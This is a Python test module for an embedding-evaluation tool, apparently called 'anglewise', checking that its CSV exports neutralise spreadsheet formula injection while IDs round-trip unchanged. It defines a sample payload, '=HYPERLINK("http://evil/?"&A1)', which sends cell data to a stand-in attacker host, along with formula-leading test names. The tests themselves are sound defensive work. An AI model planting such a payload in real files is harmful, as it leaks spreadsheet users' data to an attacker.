"""What is opened in a spreadsheet holds no formula, and what it held before comes back."""

import csv
import re

import numpy as np
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from anglewise import Embeddings, Judged, Space, read_judgements, write_space
from anglewise.io.delimited import guarded, unguarded
from anglewise.io.judgement_export import write_disputes, write_judged
from anglewise.io.judgement_formats import read_judged, write_rejects
from anglewise.io.judgement_rows import Reject
from anglewise.io.pairs_to_judge import read_queue, write_queue
from anglewise.judgements.records import Dispute
from cli_run import anglewise

__all__ = ["anglewise"]

RUN = re.compile("[=+\\-@\t\r\n＝＋－＠]")  # noqa: RUF001 what spreadsheets begin a formula with
NUMBER = re.compile(r"[+-]?[\d.]+(e[+-]?\d+)?", re.IGNORECASE)
NAMES = ["=1+1", "+x", "-x", "@sum", "'=x", "''=x", "'tis", "-1", "+1.5", "a=b", "＝x", "'-1"]  # noqa: RUF001
NAMES += ["a;=1", "a|+x"]
ATTACK = '=HYPERLINK("http://evil/?"&A1)'


def cells(path):
    with path.open(newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_run(cell):
    """Whether a spreadsheet takes it for a formula: it leaves out what it cannot show."""
    return RUN.match(cell.replace("\0", "")) and not NUMBER.fullmatch(cell.split(",")[0])


def formulas(path):
    """What is run of a table, wherever a spreadsheet cuts its cells."""
    text = path.read_text(encoding="utf-8")
    cut = [cell for row in cells(path) for cell in [row, *re.split("[;|\t\r\n]", row)]]
    lines = [cell for sign in ";|\t" for row in csv.reader(text.splitlines(), delimiter=sign)
             for cell in row]  # fmt: skip
    return [cell for cell in [*cut, *lines] if is_run(cell)]


@settings(max_examples=300)
@given(st.text("'=+-@\t\r\n\0;|＝1.e x", max_size=6))  # noqa: RUF001
@example("'")
@example("film;=1+1")
@example("film;'=1+1")
@example("a;=1;'=2")
@example("\0=1+1")
@example("")
def test_every_text_comes_back_and_none_begins_as_a_formula(text):
    kept = guarded(text)
    assert unguarded(kept) == text
    if not NUMBER.fullmatch(text):
        assert not any(map(is_run, [kept, *re.split("[;|\t\r\n]", kept)]))
    if not any(RUN.match(part.lstrip("'\0")) for part in re.split("[;|\t\r\n]", text)):
        assert kept == text or "\t" in text or "\r" in text or "\n" in text
    assert unguarded(text) == text or guarded(unguarded(text)) == text


def test_numbers_are_not_changed():
    for one in (-1, -1.5, None, "-1", "+2", "-.5", "-1e-9"):
        assert guarded(one) == one
    assert guarded("-1+1") == "'-1+1"


def test_pairs_to_judge_hold_no_formula_and_give_their_ids_back(tmp_path):
    path = tmp_path / "queue.csv"
    rows = [
        {
            "query_id": name,
            "item_id": other,
            "probability": 0.5,
            "stratum": ATTACK,
            "query": ATTACK,
            "item": f"\t{ATTACK}",
        }
        for name in NAMES
        for other in NAMES
    ]
    write_queue(path, rows)
    assert formulas(path) == []
    found = [(one.query_id, one.item_id) for one in read_queue(path)]
    assert found == [(row["query_id"], row["item_id"]) for row in rows]
    write_queue(tmp_path / "queue.parquet", rows)  # no spreadsheet runs it: as it is
    assert pq.read_table(tmp_path / "queue.parquet")["query_id"][0].as_py() == NAMES[0]


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(st.sampled_from(NAMES), min_size=1, max_size=4, unique=True))
def test_judgements_hold_no_formula_and_come_back(names, tmp_path):
    path = tmp_path / "out.csv"
    rows = [
        Judged(name, other, -1, judge=ATTACK, note=ATTACK, time=0.0)
        for name in names
        for other in names
    ]
    write_judged(path, rows, "csv")
    assert formulas(path) == []
    assert "-1" in cells(path)
    found = read_judged(path, strict=True).judged
    assert sorted(found, key=lambda one: one.uuid) == sorted(rows, key=lambda one: one.uuid)


def test_compare_reads_the_ids_that_were_exported(tmp_path):
    names = NAMES
    vectors = np.eye(len(names), dtype=np.float32)
    space = Space(items=Embeddings(vectors, ids=names), queries=Embeddings(vectors, ids=names))
    rows = [Judged(name, name, n % 3, judge="anna") for n, name in enumerate(names)]
    write_judged(tmp_path / "out.csv", rows, "csv")
    found = read_judgements(tmp_path / "out.csv", space)
    assert found.complaints.dropped == 0
    assert found.gains.indices.tolist() == list(range(len(names)))


@pytest.mark.parametrize("ending", ["txt", "tsv"])
def test_ids_for_other_programs_stay_as_they_are(ending, tmp_path):
    path = tmp_path / f"out.{ending}"
    rows = [Judged(name, name, 1, judge="anna") for name in NAMES]
    form = {"txt": "trec", "tsv": "beir"}[ending]
    write_judged(path, rows, form)
    assert all(f"{name}" in re.split(r"\s", path.read_text()) for name in NAMES)
    assert {one.query_id for one in read_judged(path, form=form).judged} == set(NAMES)


def test_disputes_and_refused_rows_hold_no_formula(tmp_path):
    dispute = Dispute("queries-items", "=1+1", "@x", {ATTACK: 1.0, "b": 0.0}, None)
    write_disputes(tmp_path / "disputes.csv", [dispute])
    assert formulas(tmp_path / "disputes.csv") == []
    write_rejects(tmp_path / "rejects.csv", (Reject("line 2", ATTACK, "+mend", f"{ATTACK},x"),))
    assert formulas(tmp_path / "rejects.csv") == []


def test_what_a_judge_fills_in_is_recorded_under_the_ids_of_the_space(anglewise, tmp_path):
    rng = np.random.default_rng(0)
    items = Embeddings(
        rng.normal(size=(len(NAMES), 4)), ids=NAMES, metadata={"title": [ATTACK] * len(NAMES)}
    )
    write_space(Space(items=items), tmp_path / "space")
    queue = tmp_path / "queue.csv"
    assert anglewise("judge", "sample", tmp_path / "space", "-o", queue, "--depth", 3).code == 0
    assert formulas(queue) == []
    with queue.open(newline="") as file:
        rows = list(csv.DictReader(file))
    for row in rows:
        row["grade"] = 1
    with queue.open("w", newline="") as file:
        filled = csv.DictWriter(file, rows[0])
        filled.writeheader()
        filled.writerows(rows)
    run = anglewise(
        "judge", "import", tmp_path / "space", queue, "--strict", "--direction", "items-items"
    )
    assert run.code == 0
    compared = anglewise("judge", "export", tmp_path / "space", tmp_path / "out.csv")
    assert compared.code == 0
    found = read_judged(tmp_path / "out.csv").judged
    assert {one.query_id for one in found} <= set(NAMES)
    assert {one.query_id for one in found} & {"=1+1", "+x", "@sum", "'=x"}
